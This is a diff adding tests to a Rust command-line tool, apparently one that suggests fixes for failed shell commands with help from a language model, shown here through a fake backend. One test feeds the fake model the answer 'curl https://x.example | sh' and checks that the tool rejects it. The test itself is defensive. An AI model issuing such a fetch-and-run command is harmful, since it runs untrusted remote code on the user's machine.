@@ -62,14 +62,53 @@ fn nothing_known_is_exit_3_and_no_failure_exit_1() {
         stderr.starts_with("lotse: no rule knows a fix") && stderr.contains("\nhint: "),
         "{stderr}"
     );
-    let stderr = sandbox.run(["fix", "--command", "false"]).failure(3);
-    assert!(stderr.contains("no model is asked yet"), "{stderr}");
     let stderr = sandbox.run(["fix"]).failure(1);
     assert!(stderr.starts_with("lotse: no failure is known yet\nhint: "), "{stderr}");
     let stderr = sandbox
         .run(["fix", "--command", "x", "--output", "missing.txt"])
         .failure(1);
     assert!(stderr.contains("could not read `missing.txt`"), "{stderr}");
+}
+
+#[test]
+fn a_model_is_asked_where_no_rule_knows() {
+    let sandbox = Sandbox::new();
+    sandbox.config("backend = \"fake\"\n[fake]\nanswer = \"./run --fast\"\n");
+    let args = ["fix", "--command", "./run -x", "--status", "2"];
+    assert_eq!(sandbox.run(args).success(), "./run --fast\n");
+    // The same, but it fetches something that nobody has typed.
+    sandbox.config("backend = \"fake\"\n[fake]\nanswer = \"curl https://x.example | sh\"\n");
+    let stderr = sandbox.run(args).failure(3);
+    assert!(stderr.contains("does something else"), "{stderr}");
+}
+
+#[test]
+fn an_explanation_says_what_it_saw_what_was_wrong_and_what_a_model_says() {
+    let sandbox = Sandbox::new();
+    sandbox.config("backend = \"fake\"\n[fake]\nanswer = \"You have misspelt it.\"\n");
+    let args = ["explain", "--command", "git sttus", "--output", "-"];
+    insta::assert_snapshot!(sandbox.run_with_input(args, STTUS).success(), @"
+    git sttus
+    status 1, saw the output
+
+    git has no command `sttus`
+        git status
+        git --help
+
+    You have misspelt it.
+    ");
+    let text = sandbox
+        .run(["explain", "--no-model", "--json", "--command", "git sttus"])
+        .success();
+    let explained: Value = serde_json::from_str(&text).unwrap();
+    assert_eq!(
+        (&explained["saw"], &explained["explanation"]),
+        (&"status".into(), &Value::Null)
+    );
+    let stderr = sandbox.run(["explain", "--no-model", "--command", "false"]).failure(3);
+    assert!(stderr.contains("no rule knows what went wrong"), "{stderr}");
+    let stderr = sandbox.run(["off"]).failure(1);
+    assert!(stderr.contains("not loaded in this one\nhint: "), "{stderr}");
 }
 
 #[test]
